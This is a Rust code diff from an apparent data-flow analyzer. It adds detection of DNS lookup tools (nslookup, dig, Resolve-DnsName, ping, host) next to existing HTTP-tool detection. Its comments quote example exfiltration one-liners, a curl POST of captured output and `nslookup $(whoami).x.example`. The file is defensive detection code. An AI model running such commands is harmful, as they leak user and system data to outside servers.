@@ -72,14 +72,30 @@ pub(super) fn processes(out: &mut Out<'_>, facts: &Facts<'_>, c: &Call, labels: 
 /// (`t=$(curl ...); curl -X POST -d "$t" https://...`): what it is given
 /// goes out.
 pub(super) fn http_tool(c: &Call) -> bool {
-    let is_tool = |w: &str| {
+    runs_tool(c, flow::HTTP_TOOLS, flow::HTTP_TOOLS)
+}
+
+/// A process that looks a name up in the DNS (`nslookup`, `dig`,
+/// `Resolve-DnsName`; `ping` and `host` as the command itself): the name
+/// it is given reaches the server of the domain it ends in, with whatever
+/// the shell substituted into it (`nslookup $(whoami).x.example`).
+pub(super) fn dns_tool(c: &Call) -> bool {
+    const ANYWHERE: &[&str] = &["nslookup", "dig", "resolve-dnsname"];
+    runs_tool(c, &["nslookup", "dig", "resolve-dnsname", "ping", "host"], ANYWHERE)
+}
+
+/// A process whose command is one of `first` (as its first word), or a
+/// shell command line running one of `anywhere`.
+fn runs_tool(c: &Call, first_words: &[&str], anywhere: &[&str]) -> bool {
+    let named = |w: &str, list: &[&str]| {
         let w = w.strip_suffix(".exe").or_else(|| w.strip_suffix(".EXE")).unwrap_or(w);
-        flow::HTTP_TOOLS.iter().any(|t| w.eq_ignore_ascii_case(t))
+        list.iter().any(|t| w.eq_ignore_ascii_case(t))
     };
+    let is_tool = |w: &str| named(w, anywhere);
     matches(&c.name, names!(PROCESS))
         && c.args.first().is_some_and(|a| {
             let first = a.literal.as_deref().or(a.strings.first().map(String::as_str)).unwrap_or("");
-            if is_tool(first.split_whitespace().next().unwrap_or("")) {
+            if named(first.split_whitespace().next().unwrap_or(""), first_words) {
                 return true;
             }
             // A command line for a shell: any command of it, after the
